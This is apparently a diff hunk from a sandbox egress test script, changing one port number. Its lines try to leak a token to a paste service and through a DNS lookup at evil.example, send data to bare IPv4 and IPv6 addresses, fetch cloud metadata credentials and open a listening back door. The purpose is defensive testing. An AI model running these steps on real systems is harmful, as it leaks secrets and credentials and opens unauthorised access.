@@ -44,7 +44,7 @@ attempt "upload the token to a paste service, by name" send https://paste.exampl
 attempt "hide the token in a DNS question" getent ahostsv4 "$TOKEN.evil.example"
 attempt "upload to a bare address" send http://203.0.113.66/
 attempt "the same over IPv6" send 'http://[2001:db8:e::66]/'
-attempt "an allowed address, but another port" send http://198.51.100.11:8080/
+attempt "an allowed address, but another port" send http://198.51.100.11:8081/
 attempt "ask the cloud's metadata service for credentials" send http://169.254.169.254/metadata/identity
 attempt "open a back door on port 8000; the attacker knocks" listen
 say "the build is done"
